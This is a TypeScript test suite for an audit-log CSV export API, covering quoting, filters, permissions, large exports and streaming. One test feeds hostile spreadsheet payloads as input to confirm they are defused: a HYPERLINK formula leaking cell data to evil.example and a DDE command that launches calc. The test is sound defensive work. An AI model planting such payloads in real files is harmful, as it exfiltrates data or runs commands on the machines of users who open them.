import { randomUUID } from "node:crypto";
import { get, type IncomingMessage } from "node:http";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { recordAudit } from "../../../server/services/audit/record.ts";
import type { AuditEvent } from "../../../shared/schemas/audit.ts";
import { buildTestApp, type TestApp } from "../../helpers/build-test-app.ts";
import { csvObjects, parseCsv } from "../../helpers/csv.ts";
import { api } from "../../helpers/http.ts";
import { rawInsertMany, rawRun } from "../../helpers/raw-sql.ts";
import { seedAdmin, seedUser } from "../../helpers/users.ts";

const START = Date.parse("2025-03-10T12:00:00Z");

async function exportCsv(test: TestApp, headers: Record<string, string>, search = "") {
	return api(test.app, "GET", `/audit/export.csv${search}`, { headers });
}

/** `count` rows written straight into the table, oldest first (ids 1..count), each `padding` long in user_agent. */
async function bulkInsert(test: TestApp, count: number, padding = 0) {
	const userId = randomUUID();
	const rows = Array.from({ length: count }, (_, index) => {
		const i = index + 1;
		return [
			START + i * 1000,
			i % 2 === 0 ? "auth.login" : "auth.logout",
			userId,
			`user${i}@example.com`,
			userId,
			`user${i}@example.com`,
			`10.0.${i % 256}.1`,
			`agent ${i}, "v${i}" ${"x".repeat(padding)}`,
			JSON.stringify({ n: i }),
		];
	});
	await rawInsertMany(
		test.db,
		"audit_events",
		["at", "action", "actor_id", "actor_email", "subject_id", "subject_email", "ip", "user_agent", "details"],
		rows,
	);
}

/** What row `i` of bulkInsert looks like in the CSV. */
const bulkRow = (i: number, padding = 0) => ({
	id: String(i),
	at: new Date(START + i * 1000).toISOString(),
	action: i % 2 === 0 ? "auth.login" : "auth.logout",
	actor_email: `user${i}@example.com`,
	subject_email: `user${i}@example.com`,
	ip: `10.0.${i % 256}.1`,
	user_agent: `agent ${i}, "v${i}" ${"x".repeat(padding)}`,
	details: `{"n":${i}}`,
});

/**
 * A GET over a real socket, so back-pressure is real (inject buffers the whole answer). A
 * Unix socket: its buffer is small and fixed, where TCP on loopback may grow to megabytes.
 */
async function listenAndGet(test: TestApp, path: string, headers: Record<string, string>): Promise<IncomingMessage> {
	const socketPath = join(test.dataDir, "http.sock");
	await test.app.listen({ path: socketPath });
	return new Promise((resolve, reject) =>
		get({ socketPath, path: `/api/v1${path}`, headers }, resolve).on("error", reject),
	);
}

describe("GET /audit/export.csv", () => {
	it("is an attachment of CSV: a header of the JSON's field names, then the events newest first", async () => {
		const test = await buildTestApp({ startAt: START });
		const admin = await seedAdmin(test.app);
		const user = await seedUser(test.app, { email: "ada@example.com" });
		await api(test.app, "PATCH", `/users/${user.id}`, { headers: admin.headers, body: { full_name: "Ada L." } });
		await api(test.app, "DELETE", `/users/${user.id}`, { headers: admin.headers });
		const res = await exportCsv(test, admin.headers);
		expect(res.statusCode).toBe(200);
		expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
		expect(res.headers["content-disposition"]).toBe('attachment; filename="audit-2025-03-10.csv"');
		expect(res.headers["cache-control"]).toBe("no-store");

		const json = (await api(test.app, "GET", "/audit/", { headers: admin.headers })).json() as { data: AuditEvent[] };
		const [header] = parseCsv(res.body);
		expect(header).toEqual(Object.keys(json.data[0] as AuditEvent));
		expect(header).toEqual([
			"id",
			"at",
			"action",
			"actor_id",
			"actor_email",
			"subject_id",
			"subject_email",
			"ip",
			"user_agent",
			"details",
		]);
		// Each row says what the JSON says: nulls are empty cells, details are JSON text.
		const asCells = (event: AuditEvent) =>
			Object.fromEntries(
				Object.entries(event).map(([key, value]) => [
					key,
					key === "details" ? JSON.stringify(value) : value === null ? "" : String(value),
				]),
			);
		expect(csvObjects(res.body)).toEqual(json.data.map(asCells));
		expect(csvObjects(res.body).map((row) => row.action)).toEqual(["admin.user_delete", "admin.user_update"]);
		expect(res.body).toContain('"{""fields"":[""full_name""]}"');
		expect(res.body.endsWith("\r\n")).toBe(true);
	});

	it("quotes commas, quotes and line breaks, and defuses cells a spreadsheet would run as formulas", async () => {
		const test = await buildTestApp();
		const admin = await seedAdmin(test.app);
		const agents = [
			'Mozilla/5.0 (X11, "quoted")',
			"two\r\nlines",
			"line\nfeed",
			"a,b",
			'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
			"+1+2",
			"-2+3",
			"@SUM(A1:A9)",
			"\t=1+1",
			"\r=1+1",
			"Firefox/140",
		];
		for (const userAgent of agents) {
			await recordAudit(test.app.deps, {
				action: "auth.login",
				subject: { id: randomUUID(), email: "=1+1@example.com" },
				meta: { ip: "10.0.0.1", userAgent },
				details: { note: "=cmd|' /C calc'!A0" },
			});
		}
		const res = await exportCsv(test, admin.headers);
		const cells = csvObjects(res.body).reverse();
		expect(cells.map((row) => row.user_agent)).toEqual([
			'Mozilla/5.0 (X11, "quoted")',
			"two\r\nlines",
			"line\nfeed",
			"a,b",
			`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
			"'+1+2",
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\t=1+1",
			"'\r=1+1",
			"Firefox/140",
		]);
		for (const row of cells) expect(row.subject_email).toBe("'=1+1@example.com");
		// JSON text starts with a brace: nothing to defuse inside it.
		expect(cells[0]?.details).toBe(`{"note":"=cmd|' /C calc'!A0"}`);
		// As written on the wire:
		expect(res.body).toContain(`,"Mozilla/5.0 (X11, ""quoted"")",`);
		expect(res.body).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
		expect(res.body).toContain(`,"'+1+2",`);
		expect(res.body).toContain(`,Firefox/140,`);
		expect(res.body).toContain(`,"line\nfeed",`);
		expect(res.body).toContain(`,"a,b",`);
		// No cell, once parsed, starts a formula.
		for (const row of parseCsv(res.body)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
	});

	it("applies the filters of GET /audit/", async () => {
		const test = await buildTestApp({ startAt: START });
		const admin = await seedAdmin(test.app);
		await bulkInsert(test, 40);
		const searches = [
			"?action=auth.login",
			"?action=auth.login,auth.logout&user=user1",
			"?user=USER3",
			`?since=${new Date(START + 10_000).toISOString()}&until=${new Date(START + 20_000).toISOString()}`,
			`?actor_id=${admin.id}`,
			`?subject_id=${randomUUID()}`,
		];
		for (const search of searches) {
			const json = (
				await api(test.app, "GET", `/audit/${search}&limit=1000`.replace("/&", "/?"), {
					headers: admin.headers,
				})
			).json() as { data: AuditEvent[]; count: number };
			const csv = csvObjects((await exportCsv(test, admin.headers, search)).body);
			expect(
				csv.map((row) => Number(row.id)),
				search,
			).toEqual(json.data.map((event) => event.id));
		}
		const logins = csvObjects((await exportCsv(test, admin.headers, "?action=auth.login")).body);
		expect(logins).toHaveLength(20);
		const day = csvObjects(
			(await exportCsv(test, admin.headers, "?user=user3&since=2025-03-10&until=2025-03-10")).body,
		);
		expect(day.map((row) => row.id)).toEqual(["39", "38", "37", "36", "35", "34", "33", "32", "31", "30", "3"]);
	});

	it("refuses what GET /audit/ refuses, and only a superuser may export", async () => {
		const test = await buildTestApp();
		const admin = await seedAdmin(test.app);
		const user = await seedUser(test.app);
		const bad = await exportCsv(test, admin.headers, "?action=auth.nope");
		expect(bad.statusCode).toBe(422);
		expect(bad.json().detail).toEqual([expect.objectContaining({ type: "enum", loc: ["query", "action"] })]);
		expect((await exportCsv(test, admin.headers, "?since=soon")).statusCode).toBe(422);
		expect((await exportCsv(test, admin.headers, "?subject_id=1")).statusCode).toBe(422);
		expect((await exportCsv(test, user.headers, "?action=auth.nope")).statusCode).toBe(403);
		expect((await exportCsv(test, {})).statusCode).toBe(401);
	});

	it("exports 20,000 events completely and in order", async () => {
		const test = await buildTestApp({ startAt: START });
		const admin = await seedAdmin(test.app);
		const count = 20_000;
		await bulkInsert(test, count);
		const res = await exportCsv(test, admin.headers);
		const rows = csvObjects(res.body);
		expect(rows).toHaveLength(count);
		for (let k = 0; k < count; k++) {
			const i = count - k;
			expect(rows[k]).toMatchObject(bulkRow(i));
		}
	});

	it("streams: the first rows leave before the last are read, at the pace the reader takes them", async () => {
		const test = await buildTestApp({ startAt: START });
		const admin = await seedAdmin(test.app);
		// About 11 MB, far beyond what the socket's buffer holds while the reader waits.
		const count = 20_000;
		const padding = 500;
		await bulkInsert(test, count, padding);
		const res = await listenAndGet(test, "/audit/export.csv", admin.headers);
		expect(res.statusCode).toBe(200);
		const chunks: Buffer[] = [];
		const firstBytes = new Promise<void>((resolve) =>
			res.on("data", (chunk: Buffer) => {
				chunks.push(chunk);
				if (chunks.length === 1) {
					res.pause();
					resolve();
				}
			}),
		);
		await firstBytes;
		// The reader holds back; meanwhile the oldest quarter goes. A server that had read
		// every row up front would still send them; a streaming one never gets that far.
		await new Promise((resolve) => setTimeout(resolve, 200));
		const removed = await rawRun(test.db, "DELETE FROM audit_events WHERE id <= ?", [count / 4]);
		expect(removed).toBe(count / 4);
		res.resume();
		await new Promise((resolve) => res.on("end", resolve));
		const rows = csvObjects(Buffer.concat(chunks).toString("utf8"));
		expect(rows).toHaveLength((count * 3) / 4);
		expect(rows[0]).toMatchObject(bulkRow(count, padding));
		expect(rows.at(-1)).toMatchObject(bulkRow(count / 4 + 1, padding));
	});
});
